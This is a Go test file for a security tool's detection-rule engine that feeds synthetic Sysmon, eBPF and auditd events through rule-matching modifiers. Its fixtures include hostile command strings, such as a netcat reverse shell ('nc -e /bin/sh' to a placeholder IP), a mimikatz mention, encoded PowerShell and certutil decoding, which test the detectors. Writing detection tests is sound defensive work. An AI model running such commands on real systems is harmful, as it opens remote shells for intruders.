package detections

import (
	"encoding/base64"
	"os"
	"testing"

	"github.com/quarry-sec/quarry/telemetry"
)

// sysmon1 is a Sysmon process creation with the given EventData.
func sysmon1(fields map[string]string) *telemetry.Event {
	ev := telemetry.NewEvent(telemetry.KindExec, telemetry.SourceSysmon)
	ev.Channel, ev.EventID = "Microsoft-Windows-Sysmon/Operational", 1
	ev.Fields = telemetry.FieldsFromMap(fields)
	return &ev
}

func sysmon3(fields map[string]string) *telemetry.Event {
	ev := sysmon1(fields)
	ev.EventID, ev.Kind = 3, telemetry.KindOther
	return ev
}

func linuxExec(path, cmd string) *telemetry.Event {
	ev := telemetry.NewEvent(telemetry.KindExec, telemetry.SourceEBPF)
	ev.Path, ev.Cmdline = path, cmd
	return &ev
}

func auditdExec(args ...string) *telemetry.Event {
	ev := telemetry.NewEvent(telemetry.KindExec, telemetry.SourceAuditd)
	ev.Path, ev.Args = "/usr/bin/"+args[0], args
	return &ev
}

func cmd(c string) *telemetry.Event {
	return sysmon1(map[string]string{"CommandLine": c, "Image": `C:\Windows\System32\x.exe`})
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func wideB64(prefix, s string) string {
	var b []byte
	for _, r := range prefix + s {
		b = append(b, byte(r), 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestForms(t *testing.T) {
	data, err := os.ReadFile("testdata/forms.yml")
	if err != nil {
		t.Fatal(err)
	}
	res, err := LoadBytes("testdata/forms.yml", data, Options{Source: SourceCustom, Placeholders: map[string][]string{"admins": {"root", `CORP\adm*`}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range res.Errors {
		t.Fatalf("load: %v", e)
	}
	if len(res.Warnings) != 1 {
		t.Errorf("want 1 warning (unresolved placeholder), got %v", res.Warnings)
	}
	byTitle := map[string]*Rule{}
	for _, r := range res.Rules {
		byTitle[r.Title] = r
	}
	cases := []struct {
		rule     string
		pos, neg []*telemetry.Event
	}{
		{"contains", []*telemetry.Event{cmd("x mimikatz y")}, []*telemetry.Event{cmd("mimi katz"), sysmon3(map[string]string{"CommandLine": "mimikatz"})}},
		{"startswith endswith", []*telemetry.Event{sysmon1(map[string]string{"Image": `C:\WINDOWS\CMD.EXE`, "CommandLine": "CMD /C dir"})},
			[]*telemetry.Event{sysmon1(map[string]string{"Image": `C:\x\cmd.exe.bak`, "CommandLine": "cmd /c dir"}), sysmon1(map[string]string{"Image": `C:\cmd.exe`, "CommandLine": "x cmd /c"})}},
		{"all", []*telemetry.Event{cmd("ps -ENC abc -w HIDDEN")}, []*telemetry.Event{cmd("ps -enc abc")}},
		{"re flags", []*telemetry.Event{cmd("PowerShell -e abc"), cmd("powershell x -enc abc")}, []*telemetry.Event{cmd(" powershell -e abc"), cmd("powershell -x")}},
		{"re cased", []*telemetry.Event{cmd("xABCx")}, []*telemetry.Event{cmd("xabcx")}},
		{"windash", []*telemetry.Event{cmd("certutil -decode a b"), cmd("certutil /decode a b"), cmd("certutil \u2013decode a b"), cmd("certutil \u2015decode a b")},
			[]*telemetry.Event{cmd("certutil decode a b"), cmd("certutil +decode a b")}},
		{"base64", []*telemetry.Event{cmd("x " + b64("http://") + " y")}, []*telemetry.Event{cmd("http://")}},
		{"base64offset", []*telemetry.Event{cmd(b64("Invoke-X")), cmd(b64("aInvoke-X")), cmd(b64("abInvoke-X"))}, []*telemetry.Event{cmd(b64("Invoke"))}},
		{"wide base64offset", []*telemetry.Event{cmd(wideB64("", "ping x")), cmd(wideB64("a", "ping x")), cmd(wideB64("ab", "ping"))}, []*telemetry.Event{cmd(b64("ping"))}},
		{"cidr", []*telemetry.Event{sysmon3(map[string]string{"DestinationIp": "10.1.2.3"}), sysmon3(map[string]string{"DestinationIp": "fe80::1%eth0"})},
			[]*telemetry.Event{sysmon3(map[string]string{"DestinationIp": "11.0.0.1"}), sysmon3(map[string]string{"DestinationIp": "bogus"}), cmd("10.0.0.1")}},
		{"exists", []*telemetry.Event{cmd("a")}, []*telemetry.Event{sysmon1(map[string]string{"Company": ""})}},
		{"cased", []*telemetry.Event{cmd("enable SeDebug")}, []*telemetry.Event{cmd("enable sedebug")}},
		{"fieldref", []*telemetry.Event{sysmon1(map[string]string{"Image": `C:\a.exe`, "ParentImage": `c:\A.exe`})},
			[]*telemetry.Event{sysmon1(map[string]string{"Image": `C:\a.exe`, "ParentImage": `C:\b.exe`}), sysmon1(map[string]string{"ParentImage": `C:\b.exe`})}},
		{"expand", []*telemetry.Event{sysmon1(map[string]string{"User": "ROOT"}), sysmon1(map[string]string{"User": `corp\admin1`})}, []*telemetry.Event{sysmon1(map[string]string{"User": "bob"})}},
		{"expand unresolved", nil, []*telemetry.Event{sysmon1(map[string]string{"User": "%nowhere%"})}},
		{"numbers", []*telemetry.Event{sysmon1(map[string]string{"ProcessId": "100", "ParentProcessId": "4"})},
			[]*telemetry.Event{sysmon1(map[string]string{"ProcessId": "99", "ParentProcessId": "4"}), sysmon1(map[string]string{"ProcessId": "x", "ParentProcessId": "4"})}},
		{"null", []*telemetry.Event{sysmon1(map[string]string{"Image": `C:\a.exe`, "OriginalFileName": "a.exe"})},
			[]*telemetry.Event{sysmon1(map[string]string{"Image": `C:\a.exe`}), sysmon1(map[string]string{"Image": `C:\a.exe`, "OriginalFileName": ""})}},
		{"wildcards", []*telemetry.Event{cmd("ABC--x*y"), cmd("aXcx*y")}, []*telemetry.Event{cmd("ac x*y"), cmd("abcxzy"), cmd("abcx*yz")}},
		{"keywords", []*telemetry.Event{sysmon1(map[string]string{"Description": "an EVIL tool"}), cmd("a bad other thing")}, []*telemetry.Event{cmd("good")}},
		{"of forms", []*telemetry.Event{cmd("aaa bbb")}, []*telemetry.Event{cmd("aaa"), cmd("aaa bbb xxx")}},
		{"them", []*telemetry.Event{cmd("aaa"), sysmon1(map[string]string{"Image": `C:\b.exe`})}, []*telemetry.Event{cmd("bbb")}},
		{"all of them", []*telemetry.Event{sysmon1(map[string]string{"Image": `C:\b.exe`, "CommandLine": "aaa"})}, []*telemetry.Event{cmd("aaa")}},
		{"list of maps and parens", []*telemetry.Event{sysmon1(map[string]string{"Image": `C:\x.exe`}), cmd("zzz")},
			[]*telemetry.Event{sysmon1(map[string]string{"Image": `C:\x.exe`, "User": "system"}), sysmon1(map[string]string{"CommandLine": "zzz", "IntegrityLevel": "high"})}},
		{"linux logsource", []*telemetry.Event{linuxExec("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4")},
			[]*telemetry.Event{sysmon1(map[string]string{"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh"}), linuxExec("/usr/bin/nc", "nc -l")}},
		{"auditd", []*telemetry.Event{auditdExec("wget", "http://x")}, []*telemetry.Event{auditdExec("curl", "http://x"), linuxExec("/usr/bin/wget", "wget")}},
	}
	for _, c := range cases {
		r := byTitle[c.rule]
		if r == nil {
			t.Fatalf("rule %q not loaded", c.rule)
		}
		eng := NewEngine([]*Rule{r})
		for i, ev := range c.pos {
			if eng.Match(ev, nil) != 1 {
				t.Errorf("%s: positive event %d did not match", c.rule, i)
			}
			if !naiveMatch(r, ev) {
				t.Errorf("%s: positive event %d: naive evaluator disagrees", c.rule, i)
			}
		}
		for i, ev := range c.neg {
			if eng.Match(ev, nil) != 0 {
				t.Errorf("%s: negative event %d matched", c.rule, i)
			}
			if naiveMatch(r, ev) {
				t.Errorf("%s: negative event %d: naive evaluator disagrees", c.rule, i)
			}
		}
	}
}
